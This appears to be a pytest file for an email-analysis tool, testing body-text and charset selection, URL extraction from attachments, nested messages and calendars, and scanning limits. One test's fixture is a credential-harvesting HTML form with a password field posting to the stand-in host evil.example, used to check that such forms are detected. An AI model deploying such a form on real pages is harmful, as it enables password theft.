"""Which text of a message is its body, and in which character set."""

import pytest

from tests.intake.mail.letters import (
    attached,
    facts,
    features,
    letter,
    multipart,
    page,
    plain,
    read,
    reasons,
    text_part,
)
from tests.intake.mail.outlook_files import compound, outlook
from workbench.intake.mail.limits import LONGEST_SCANNED, MOST_READ_ATTACHMENTS


def hosts(raw: bytes, location: str) -> list[object]:
    reading = read(raw)
    rows = [row for row in reading.rows["EmailUrlInfo"] if row["_Raw"] == reading.sha256]
    return [row["UrlDomain"] for row in rows if row["UrlLocation"] == location]


def test_html_is_the_visible_text_where_there_is_both() -> None:
    raw = multipart(text_part("plain words"), text_part("<p>shown words here", "text/html"), kind="alternative")
    text = features(raw)["text"]
    assert (text["source"], text["words"]) == ("html", 3)


def test_plain_text_is_the_visible_text_where_html_shows_none() -> None:
    raw = multipart(text_part("plain words"), text_part("<img src=x>", "text/html"), kind="alternative")
    assert features(raw)["text"]["source"] == "plain"
    assert features(letter(("From: a@b.example",), b""))["text"]["source"] == "none"


def test_several_texts_are_one() -> None:
    assert features(multipart(text_part("one"), text_part("two")))["text"]["words"] == 2


def test_the_character_set_is_that_of_what_is_shown() -> None:
    html = b"Content-Type: text/html; charset=windows-1251\r\n\r\n<p>\xcf\xf0\xe8\xe2\xe5\xf2"
    assert facts(multipart(text_part("Grüße"), html, kind="alternative"))["Charset"] == "cp1251"
    assert facts(plain("Grüße"))["Charset"] == "utf-8"
    assert facts(letter(("From: a@b.example", "Content-Type: image/png"), b"x"))["Charset"] == ""


def test_a_text_that_does_not_fit_its_character_set_is_read_with_a_fault() -> None:
    assert "2 characters do not fit the character set" in reasons(plain(b"ok \xff\xfe"))


def test_urls_of_attached_pages_messages_and_pdfs_are_found_where_they_are() -> None:
    inner = multipart(text_part('<a href="http://inner.example/">x</a>', "text/html")).replace(b"cut", b"slit")
    raw = multipart(
        text_part("http://body.example/"),
        attached(b"<html><a href='http://page.example/'>x</a>", "a.html"),
        attached(b"%PDF-1.7 << /URI (http://pdf.example/) >>", "a.pdf"),
        b"Content-Type: message/rfc822\r\n\r\n" + inner,
    )
    assert hosts(raw, "Body") == ["body.example"]
    assert hosts(raw, "Attachment") == ["inner.example", "page.example", "pdf.example"]


@pytest.mark.quirk("raw mail", "URLs of messages attached as files")
@pytest.mark.parametrize("kind", ["application/octet-stream", "application/vnd.ms-outlook", "message/rfc822"])
@pytest.mark.parametrize("form", ["msg", "eml"])
def test_urls_of_a_message_attached_as_a_file_are_found_as_those_of_a_forwarded_one(form: str, kind: str) -> None:
    page = '<a href="http://page.example/x">sign in</a>'
    inner = (
        compound(outlook(p0037="Hello", p1000="see http://text.example/", p1013=page.encode()))
        if form == "msg"
        else multipart(text_part("see http://text.example/"), text_part(page, "text/html"), kind="alternative")
    )
    raw = multipart(
        text_part("see"), attached(inner, f"x.{form}", kind if form == "eml" else kind.replace("message/rfc822", "x/y"))
    )
    assert set(hosts(raw, "Attachment")) == {"page.example", "text.example"}


def test_a_contact_attached_as_a_file_is_a_file() -> None:
    contact = compound(outlook(p001A="IPM.Contact", p0037="Bob", p1000="see http://text.example/"))
    reading = read(multipart(text_part("see"), attached(contact, "bob.msg")))
    assert [len(reading.rows[name]) for name in ("EmailEvents", "EmailAttachmentInfo")] == [1, 1]


def test_a_calendar_is_searched_for_urls_and_is_not_the_text() -> None:
    raw = multipart(text_part("hello there"), text_part("URL:http://meet.example/1", "text/calendar"))
    assert hosts(raw, "Body") == ["meet.example"]
    assert features(raw)["text"]["words"] == 2


def test_a_form_in_an_attached_page_is_told() -> None:
    html = b"<html><form action='http://evil.example/'><input type=password></form>"
    forms = features(multipart(text_part("open the file"), attached(html, "a.html")))["forms"]
    assert (forms["count"], forms["passwords"], forms["hosts"]["count"]) == (1, 1, 1)


def test_all_texts_together_are_read_up_to_one_limit() -> None:
    raw = multipart(text_part("a " * LONGEST_SCANNED), text_part("http://late.example/"))
    assert hosts(raw, "Body") == []
    assert "texts are longer than the limit" in reasons(raw)


def test_only_so_many_attached_pages_are_searched() -> None:
    pages = [attached(f"<html><a href='http://p{number}.example/'>".encode(), "a.html") for number in range(15)]
    assert len(hosts(multipart(*pages), "Attachment")) == MOST_READ_ATTACHMENTS


def test_a_page_of_its_own_is_read() -> None:
    assert features(page("<p>some text</p>"))["text"]["source"] == "html"
